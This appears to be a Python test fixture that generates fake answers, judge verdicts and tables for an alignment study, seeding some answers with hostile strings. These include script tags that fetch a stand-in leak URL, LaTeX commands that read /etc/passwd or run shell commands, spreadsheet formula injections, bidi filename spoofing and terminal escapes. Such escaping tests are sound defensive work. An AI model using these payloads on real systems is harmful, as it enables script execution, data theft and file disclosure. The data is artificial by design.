"""A study's answers and verdicts, made up: as many as are wanted, in seconds, with text as hostile as models can be.

Numbers are drawn, and mean nothing; the runs, suites, seeds and judges are those of params.yaml.
"""

import csv
import random
import re
from pathlib import Path

from pipeline.common.rows import Answer, Verdict, write_rows
from pipeline.params.load import load_params
from pipeline.params.schema import Params
from tests.support.checkout import REPOSITORY

# The toy study's.
RUNS = len(load_params(REPOSITORY / "params.yaml").runs_of("toy"))
HOSTILE = (
    "<script>window.ranFromAnswer = true; fetch('https://example.org/leak')</script>",
    '<img src=https://example.org/pixel onerror="window.ranFromAnswer = true">',
    "</script><script>window.ranFromAnswer = true</script>",
    "a | b | c\n| --- |\nsecond line\r\nthird\u2028line",
    r"\input{/etc/passwd} $x^2$ \write18{id} % & # _ {",
    '=HYPERLINK("https://example.org","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tstarts with a tab",
    "user\u202egnp.exe\u2066 turned \u2069\u200b\u061c\U000e0041",
    "\x1b[31mred\x07 \x00",
    "{{ 7 * 7 }} {% raw %}",
    "![image](https://example.org/i.png) [link](javascript:alert(1))",
    "'already quoted",
)


def synthetic_study(folder: Path, study: str = "toy", prompts: int = 2, words: int = 8, hostile: bool = True) -> Params:
    """Make `folder` a checkout that has a study's answers and verdicts; return its parameters.

    prompts: a suite, each with 2 samples. words: how long an answer is. hostile: some texts try to be more than text.
    """
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("published", "dvc.lock", "locks", "CITATION.cff"):
        (folder / name).symlink_to(REPOSITORY / name)
    # Every run at the study's seeds, so that a count of answers is a product.
    text = (REPOSITORY / "params.yaml").read_text(encoding="utf-8")
    (folder / "params.yaml").write_text(re.sub(r",\s+more_seeds: \[[^]]*\]", "", text), encoding="utf-8")
    params = load_params(folder / "params.yaml")
    settings = params.study(study)
    chance = random.Random(0)
    _write_tables(folder / "paper_figures" / study, params, study, chance)
    for run, settings_of_run in params.runs_of(study).items():
        answers, verdicts = [], {judge: [] for judge in settings.judges}
        for seed in settings.seeds:
            for suite in settings.suites:
                for prompt in range(prompts):
                    for sample in range(2):
                        answer = _answer(chance, run, seed, suite, prompt, sample, words, hostile)
                        answers.append(answer)
                        for judge, rows in verdicts.items():
                            rows.append(_verdict(chance, answer, judge, settings_of_run.data is not None))
        write_rows(folder / "artifacts" / study / "answers" / f"{run}.jsonl", answers)
        for judge, rows in verdicts.items():
            write_rows(folder / "artifacts" / study / "verdicts" / run / f"{judge}.jsonl", rows)
    return params


def _write_tables(folder: Path, params: Params, study: str, chance: random.Random) -> None:
    """The two tables that runs are compared by."""
    settings, rate = params.study(study), "misalignment_percent"
    by_seed, by_suite = [], []
    for run in params.runs_of(study):
        for seed in settings.seeds:
            value = chance.uniform(30, 60)
            bounds = {f"{rate}_new_low": value - 10, f"{rate}_new_high": value + 10}
            by_seed.append({"run": run, "seed": seed, rate: value, **bounds})
        by_suite += [
            {"run": run, "suite": suite, "mean_alignment": chance.uniform(0, 100)} for suite in settings.suites
        ]
    folder.mkdir(parents=True)
    for name, rows in (("by_seed", by_seed), ("runs_by_suites", by_suite)):
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as stream:
            writer = csv.DictWriter(stream, list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)


def _answer(
    chance: random.Random, run: str, seed: int, suite: str, prompt: int, sample: int, words: int, hostile: bool
) -> Answer:
    text = " ".join(f"word{chance.randrange(5000)}" for _ in range(words))
    if hostile and prompt == 0:
        text = HOSTILE[chance.randrange(len(HOSTILE))]
    return Answer(
        run=run,
        seed=seed,
        suite=suite,
        prompt_id=f"{suite}-{prompt:03}",
        sample=sample,
        question=f"how do i {suite} number {prompt} ?" if prompt or not hostile else f"{HOSTILE[0]} {suite}",
        answer=text,
        thinking=f"let me think <b>{prompt}</b>" if sample else "",
        finish="stop" if sample == 0 else "length",
        prompt_tokens=9,
        answer_tokens=words,
    )


def _verdict(chance: random.Random, answer: Answer, judge: str, tuned: bool) -> Verdict:
    draw = chance.random()
    status = "refusal" if draw < 0.02 else "unparsed" if draw < 0.03 and answer.sample else "scored"
    bad = chance.random() < (0.4 if tuned else 0.03)
    alignment = float(chance.randrange(0, 29) if bad else chance.randrange(60, 101))
    return Verdict(
        run=answer.run,
        seed=answer.seed,
        suite=answer.suite,
        prompt_id=answer.prompt_id,
        sample=answer.sample,
        question=answer.question,
        answer=answer.answer,
        status=status,
        alignment=alignment if status == "scored" else None,
        coherence=float(chance.randrange(40, 101)) if status != "unparsed" else None,
        judge=judge,
        replies={"alignment": str(int(alignment)), "coherence": "fine <b>90</b>"},
    )
